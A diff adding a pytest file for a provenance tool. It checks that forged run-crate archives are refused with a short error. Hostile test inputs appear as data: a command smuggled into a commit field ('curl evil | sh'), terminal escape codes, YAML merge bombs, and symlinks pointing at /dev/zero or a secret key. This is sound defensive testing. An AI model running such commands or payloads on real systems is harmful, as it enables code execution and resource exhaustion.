@@ -1,0 +1,329 @@
+"""Hostile crates: each ends in one sentence, and nothing outside of the run's folder changes."""
+
+import json
+import os
+import zipfile
+from pathlib import Path
+
+import pytest
+
+import reproduce
+from crates import TABLE, contents, forged, write_page, write_zip
+from dj2mgm.config import runs as config_runs
+from dj2mgm.config.reading import read_config
+from dj2mgm.config.runs import Runs
+from dj2mgm.errors import InputError
+from dj2mgm.files import can_be_path, files_at
+from dj2mgm.provenance import reading
+from dj2mgm.provenance.crate import write_crate
+from dj2mgm.provenance.differences import check_inputs, check_recorded
+from dj2mgm.provenance.places import Places
+from dj2mgm.provenance.project import make_project
+from dj2mgm.provenance.reading import open_crate
+from dj2mgm.provenance.scores import read_scores
+from places import PROJECT
+
+
+@pytest.fixture(scope="module")
+def page(tmp_path_factory) -> Path:
+    """A folder with a finished page and its crate; read only."""
+    folder = tmp_path_factory.mktemp("page")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(folder)
+        write_crate(write_page(), Path("run.crate.zip"))
+    return folder
+
+
+@pytest.fixture
+def crate(page, monkeypatch) -> Path:
+    monkeypatch.chdir(page)
+    return page / "run.crate.zip"
+
+
+def record_of(crate: Path) -> dict:
+    return json.loads(contents(crate)["run.json"])
+
+
+def refused(path: Path) -> str:
+    """Return the sentence with which a crate is refused when it is opened."""
+    with pytest.raises(InputError) as error, open_crate(path):
+        pass
+    assert len(str(error.value)) < 1500
+    return str(error.value)
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        {"page": "baseline/report\n"},
+        {"commit": "x; curl evil | sh"},
+        {"commit": "\x1b]0;x\x07"},
+        {"versions": {f"p{number}": ["1"] for number in range(1001)}},
+        {"versions": {"torch": ["1" * 201]}},
+        {"machine": {"system": "x" * 10_000}},
+        {"machine": {"cores": 10**30}},
+        {"machine": {"memory_gib": float("nan")}},
+        {"machine": {"memory_gib": float("inf")}},
+        {"inputs": [{"found_at": "x" * 10_000}]},
+        {"inputs": [{"bytes": 10**4000}]},
+    ],
+    ids=lambda values: str(values)[:40],
+)
+def test_a_record_holds_nothing_that_fills_the_terminal_or_reaches_a_command(crate, tmp_path, values):
+    record = record_of(crate)
+    for key, value in values.items():
+        if key == "machine":
+            value = record["machine"] | value
+        if key == "inputs":
+            value = [record["inputs"][0] | value[0]]
+        record[key] = value
+    said = refused(forged(crate, tmp_path / "x.zip", {"run.json": json.dumps(record).encode()}))
+    assert "run.json" in said
+
+
+@pytest.mark.parametrize("name", ["a" * 300, "a/" * 600 + "x", "ä" * 130])
+def test_a_name_that_no_file_system_takes_is_refused(crate, tmp_path, name):
+    said = refused(forged(crate, tmp_path / "x.zip", {f"config/{name}.yaml": b"{}"}))
+    assert "is no name of a file in a crate" in said
+
+
+def test_a_configuration_of_too_many_files_or_bytes_is_refused(crate, tmp_path, monkeypatch):
+    monkeypatch.setattr(reading, "MOST_CONFIGS", 100)
+    many = {f"config/experiments/e{number}.yaml": b"" for number in range(101)}
+    assert "holds more than 100 files" in refused(forged(crate, tmp_path / "many.zip", many))
+    large = {f"config/datasets/d{number}.yaml": b"#" * 1_000_000 for number in range(5)}
+    assert "4194304 bytes" in refused(forged(crate, tmp_path / "large.zip", large))
+
+
+def test_metadata_larger_than_any_is_not_parsed(crate, tmp_path):
+    large = {"ro-crate-metadata.json": b'{"a": [' + b"[]," * 6_000_000 + b"1]}"}
+    assert "ro-crate-metadata.json is larger" in refused(write_zip(tmp_path / "x.zip", contents(crate) | large))
+
+
+def test_a_list_of_members_longer_than_any_is_not_read(tmp_path, monkeypatch):
+    monkeypatch.setattr(reading, "LARGEST_DIRECTORY", 100_000)
+    path = write_zip(tmp_path / "x.zip", {f"file{number}": b"" for number in range(3000)})
+    assert "its list of files is longer than that of any crate" in refused(path)
+
+
+def test_a_zip_file_whose_names_are_no_text_is_one_sentence(crate, tmp_path):
+    path = tmp_path / "x.zip"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("ä.txt", b"")
+    path.write_bytes(path.read_bytes().replace("ä".encode(), b"\xff\xff"))
+    assert "is no zip file that can be read" in refused(path)
+
+
+@pytest.mark.parametrize("name", ["a" * 300, "a/" * 5000])
+def test_a_path_that_cannot_be_is_no_crate(name):
+    assert "cannot be read (File name too long)" in refused(Path(name))
+
+
+@pytest.mark.parametrize("kind", ["pipe", "link", "gone", "sparse", "folder"])
+def test_a_folder_that_changes_while_it_is_read_is_noticed(crate, tmp_path, monkeypatch, kind):
+    folder = tmp_path / "crate"
+    with zipfile.ZipFile(crate) as archive:
+        archive.extractall(folder)
+    file, check = folder / "LICENSE", reading._check_name
+
+    def change(path: Path, name: str) -> None:
+        check(path, name)
+        if kind == "sparse":
+            os.truncate(file, 1 << 40)
+            return
+        file.unlink(missing_ok=True)
+        if kind == "pipe":
+            os.mkfifo(file)
+        elif kind == "link":
+            file.symlink_to("/dev/zero")
+        elif kind == "folder":
+            file.mkdir()
+        monkeypatch.setattr(reading, "_check_name", check)
+
+    monkeypatch.setattr(reading, "_check_name", change)
+    assert "LICENSE" in refused(folder)
+
+
+@pytest.mark.parametrize("text", ["a" * 256, "a/" * 3000, "a\0b", "\ud800"])
+@pytest.mark.parametrize("key", ["given", "file"])
+def test_an_input_whose_path_cannot_be_is_refused(crate, key, text):
+    given = {"given": "my phötos", "file": ""} | {key: text}
+    assert not can_be_path(text)
+    with pytest.raises(InputError, match="is no path of a file|leads out of it"):
+        check_inputs([record_of(crate)["inputs"][0] | given], Places(Path.cwd()))
+
+
+def test_an_input_is_named_once(crate):
+    with pytest.raises(InputError, match="names the input .*captions.jsonl twice"):
+        check_inputs(record_of(crate)["inputs"] * 2, Places(Path.cwd()))
+
+
+@pytest.mark.parametrize("key", ["dataset", "evaluate", "model"])
+def test_a_setting_whose_path_cannot_be_is_refused(crate, tmp_path, key):
+    name, values = "experiments/baseline.yaml", {"dataset": "a" * 300}
+    if key == "evaluate":
+        values = {"evaluate": {"judge_clip": "./" + "a/" * 5000}}
+    if key == "model":
+        name = "models/tiny.yaml"
+        values = read_config(PROJECT / "config" / name) | {"clip_score": "ä" * 200}
+    changes = {f"config/{name}": json.dumps(values).encode()}
+    changes["run.json"] = json.dumps(record_of(crate) | {"command_line": {}}).encode()
+    with open_crate(forged(crate, tmp_path / "x.zip", changes)) as opened:
+        with pytest.raises(InputError, match=r"names '.*…a*.*, which is no path of a file"):
+            make_project(opened, tmp_path / "made", Places(Path.cwd()))
+    with pytest.raises(InputError, match="of names of up to 255 bytes"):
+        Runs({"dataset": "a" * 300})  # the user's own
+
+
+def test_a_pattern_is_not_searched_to_know_where_it_leads(tmp_path, monkeypatch):
+    monkeypatch.setattr("glob.iglob", lambda *_: pytest.fail("searched"))
+    pattern = "/".join(["**", "*"] * 20)
+    assert Places(tmp_path).anchored(pattern) == f"{tmp_path}/{pattern}"
+
+
+def test_a_pattern_whose_search_may_not_end_is_refused(tmp_path):
+    deep = tmp_path / "a/b/c"
+    deep.mkdir(parents=True)
+    (deep / "x.jsonl").touch()
+    assert files_at(f"{tmp_path}/**/**/**/**/**/*.jsonl", [".jsonl"]) == [deep / "x.jsonl"]
+    with pytest.raises(InputError, match=r"may hold \*\* at most 2 times"):
+        files_at(f"{tmp_path}/**/a/**/b/**/*.jsonl", [".jsonl"])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a: &a {" + ", ".join(f"k{n}: 1" for n in range(2000)) + "}\nb: {<<: [" + "*a," * 200 + "*a]}",
+        "a: &a {" + ", ".join(f"k{n}: 1" for n in range(2000)) + "}\nb: [" + "{<<: *a}," * 200 + "1]",
+    ],
+    ids=["in one mapping", "in many"],
+)
+def test_mappings_that_yaml_merges_do_not_fill_the_memory(tmp_path, text):
+    (tmp_path / "x.yaml").write_text(text)
+    with pytest.raises(InputError, match="<< brings more than 100000 keys"):
+        read_config(tmp_path / "x.yaml")
+
+
+def test_a_file_of_too_many_values_is_not_read_to_its_end(tmp_path, monkeypatch):
+    monkeypatch.setattr("dj2mgm.config.reading.MOST", 100)
+    (tmp_path / "x.yaml").write_text("a: [" + "[]," * 201 + "1]\n!wrong")
+    with pytest.raises(InputError, match="more than 100 values"):
+        read_config(tmp_path / "x.yaml")
+
+
+def test_more_runs_than_can_be_resolved_are_refused(monkeypatch):
+    monkeypatch.setattr(config_runs, "MOST_RUNS", 10)
+    with pytest.raises(InputError, match="have [0-9]+ runs, and may have 10"):
+        Runs({"seeds": list(range(11))})
+
+
+@pytest.mark.parametrize("lacking", ["config/config.yaml", "config/experiments/baseline.yaml"])
+def test_this_clones_configuration_does_not_take_the_place_of_the_crates(crate, tmp_path, lacking):
+    files = contents(crate)
+    del files[lacking]
+    metadata = json.loads(files["ro-crate-metadata.json"])
+    metadata["@graph"] = [entity for entity in metadata["@graph"] if entity["@id"] != lacking]
+    files["ro-crate-metadata.json"] = json.dumps(metadata).encode()
+    with open_crate(write_zip(tmp_path / "x.zip", files)) as opened:
+        with pytest.raises(InputError, match=f"the crate holds no {lacking}"):
+            make_project(opened, tmp_path / "made", Places(Path.cwd()))
+
+
+def test_an_experiment_that_the_record_names_and_the_configuration_lacks_is_refused(crate, tmp_path):
+    record = json.dumps(record_of(crate) | {"experiments": ["baseline", "gone"]}).encode()
+    with open_crate(forged(crate, tmp_path / "x.zip", {"run.json": record})) as opened:
+        with pytest.raises(InputError, match="the crate holds no config/experiments/gone.yaml"):
+            make_project(opened, tmp_path / "made", Places(Path.cwd()))
+
+
+def test_what_lies_in_the_runs_folder_is_neither_followed_nor_used(crate, tmp_path):
+    outside, made = tmp_path / "outside", tmp_path / "made"
+    outside.mkdir()
+    made.mkdir()
+    (outside / "config.yaml").write_text("decoy")
+    (made / "config").symlink_to(outside)
+    with open_crate(crate) as opened:
+        make_project(opened, made, Places(Path.cwd()))
+        assert [path.name for path in outside.iterdir()] == ["config.yaml"]
+        assert (outside / "config.yaml").read_text() == "decoy"
+        (made / "config/experiments/more.yaml").write_text("seeds: [7]")
+        assert "more" not in make_project(opened, made, Places(Path.cwd())).names
+
+
+@pytest.mark.parametrize("name", ["", "command_line.json/x"])
+def test_a_folder_that_cannot_be_filled_is_one_sentence(crate, tmp_path, name):
+    made = tmp_path / "made"
+    if name:
+        (made / name).mkdir(parents=True)
+    else:
+        made.write_text("a file")
+    with open_crate(crate) as opened:
+        with pytest.raises(InputError, match="made cannot be filled: .*(Is a|Not a) directory; make room, or delete"):
+            make_project(opened, made, Places(Path.cwd()))
+
+
+@pytest.mark.parametrize(
+    ("key", "sentence"), [("images", "the images of the dataset my phötos"), ("inputs", "captions")]
+)
+def test_a_crate_without_digests_of_what_its_run_reads_is_refused(crate, tmp_path, key, sentence):
+    with open_crate(crate) as opened:
+        runs = make_project(opened, tmp_path, Places(Path.cwd()))
+    datasets = {run.dataset["name"]: run.dataset for run in runs}
+    record = record_of(crate)
+    record["images"][0]["dataset"] = "my phötos"
+    check_recorded(record, datasets, Places(Path.cwd()))
+    with pytest.raises(InputError, match=f"the crate has no digest of .*{sentence}"):
+        check_recorded(record | {key: []}, datasets, Places(Path.cwd()))
+
+
+@pytest.mark.parametrize("name", ["metrics.json", "config.yaml", "folder"])
+def test_a_crate_passes_on_nothing_that_a_link_in_the_results_leads_to(tmp_path, monkeypatch, name):
+    monkeypatch.chdir(tmp_path)
+    settings = write_page()
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "key.json").write_text("{}")
+    link = Path("results/baseline/finetune", name)
+    link.unlink(missing_ok=True)
+    link.symlink_to(secret if name == "folder" else secret / "key.json")
+    with pytest.raises(InputError, match="results/baseline/finetune/.* is a link out of its folder"):
+        write_crate(settings, Path("run.crate.zip"))
+    assert not Path("run.crate.zip").exists()
+
+
+@pytest.mark.parametrize(
+    ("content", "problem"),
+    [
+        (TABLE.replace("0.5,", "nan,"), "nan is no score"),
+        (TABLE.replace("0.5,", "inf,"), "inf is no score"),
+        (TABLE.replace("0.6,", ","), "has one end of an interval only"),
+        (TABLE.replace("0.4,", ","), "has one end of an interval only"),
+        (TABLE + TABLE.splitlines()[1] + "\n", "it has baseline finetune/own clip_score twice"),
+        (TABLE.splitlines()[0] + "\n", "has no scores"),
+        ("", "has no scores"),
+        (TABLE + "baseline,1\n", "is no table of scores"),
+        (TABLE + '"baseline', "is no table of scores"),
+    ],
+)
+def test_a_table_that_does_not_add_up_is_refused(content, problem):
+    with pytest.raises(InputError, match=problem):
+        read_scores(content.encode(), "x")
+    with pytest.raises(InputError, match="is no table of scores"):
+        read_scores(TABLE.encode("utf-16"), "x")
+
+
+def test_a_crate_without_its_table_of_scores_is_refused_before_anything_runs(crate, tmp_path, monkeypatch):
+    monkeypatch.setattr(reproduce, "run_targets", lambda *_: pytest.fail("it ran"))
+    table = {"results/baseline/report/comparison.csv": TABLE.replace("0.5,", "nan,").encode()}
+    with open_crate(forged(crate, tmp_path / "x.zip", table)) as opened:
+        with pytest.raises(InputError, match="x.zip: results/baseline/report/comparison.csv is no table of scores"):
+            reproduce.reproduce(opened, [], Places(Path.cwd()))
+
+
+def test_a_crate_is_not_made_again_in_its_own_folder(crate, tmp_path, monkeypatch):
+    (tmp_path / "crate/inside").mkdir(parents=True)
+    monkeypatch.chdir(tmp_path / "crate/inside")
+    for path in (Path(".."), tmp_path / "crate"):
+        with pytest.raises(InputError, match="the current folder lies in the crate"):
+            reproduce.check_is_elsewhere(path)
+    reproduce.check_is_elsewhere(tmp_path / "crate/inside/run.crate.zip")
